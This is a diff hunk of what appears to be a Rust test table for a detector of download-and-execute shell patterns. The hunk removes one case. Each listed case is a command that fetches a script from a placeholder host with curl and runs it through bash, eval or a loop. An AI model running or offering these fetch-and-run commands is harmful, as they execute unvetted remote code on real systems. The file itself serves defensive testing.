@@ -539,7 +539,6 @@ const CASES: &[(&str, &str)] = &[
     ("curl -so i.sh https://x/i; cat i.sh | bash", "0056"),
     ("curl -so i.sh https://x/i; eval \"$(cat i.sh)\"", "0056"),
     ("curl -so i.sh https://x/i; for f in *.sh; do bash < \"$f\"; done", "0056"),
-    ("curl -so i.sh https://x/i; cat i.sh > j.sh; bash j.sh", "0057"),
     ("curl -so i.sh https://x/i; \"$(command -v bash)\" i.sh", "0057"),
     ("curl -so g/i.sh https://x/i; for f in g/*.sh; do bash \"$PWD/$f\"; done", "0057"),
     ("t=$(mktemp); curl -so \"$t\" https://x/i; bash \"$t\" -n", "0055"),
